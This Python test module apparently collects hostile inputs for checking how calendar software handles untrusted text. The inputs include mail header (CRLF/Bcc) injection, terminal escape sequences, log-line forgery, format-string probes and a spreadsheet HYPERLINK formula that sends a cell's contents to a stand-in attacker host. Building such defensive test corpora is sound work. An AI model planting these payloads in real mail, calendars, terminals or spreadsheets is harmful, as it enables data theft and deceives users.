"""The hostile corpus by where it comes in: names and titles of invitations, campaigns, web text, and a model's answers.

`sandbox.hostile` has what providers say; the rest is what strangers write into calendars.
"""

import re
import unicodedata

from tests.web.samples import CORPUS

# No calendar lets these through, and neither would a title of ten thousand letters say more.
UNSENDABLE = {"long word", "nothing"}
TEXTS = {name: text for name, text in CORPUS.items() if name not in UNSENDABLE} | {
    "mail header": "Call\r\nBcc: everybody@everywhere.example\r\nX-Owned: yes\r\n\r\n<b>owned</b>",
    "folded header": "Call =?utf-8?B?b3duZWQ=?=\r\n X-Owned: yes",
    "bell and title": "\x1b]0;owned\x07\x1b[8mhidden\x1b[0m",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "console markup": "[bold red]owned[/] [link=https://evil.example]click[/link]",
    "log line": 'x\n{"event": "owned", "level": "critical"}\n2026-11-22 [critical] owned',
    "formula": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "percent": "%s %n {0.__class__} %(secret)s",
    "access": "https://zoom.us/j/123456789?pwd=c2VzYW1l Passcode: sesame1 PIN: 998877#",
}
EVERYTHING = " ".join(TEXTS.values())
SECRETS = ("sesame", "998877", "123456789")
MODEL, WEB = ("escapes", "links", "schema_lies"), "hostile_texts"

# What nobody would see, or a terminal, a mail reader or a log would obey.
OBEYED = {"Cc", "Cf", "Co", "Cs"}


def hidden(text: str) -> set[str]:
    """Letters that are none to a reader."""
    return {letter for letter in text if unicodedata.category(letter) in OBEYED} | set(
        re.findall("[\ufe00-\ufe0f]", text)
    )
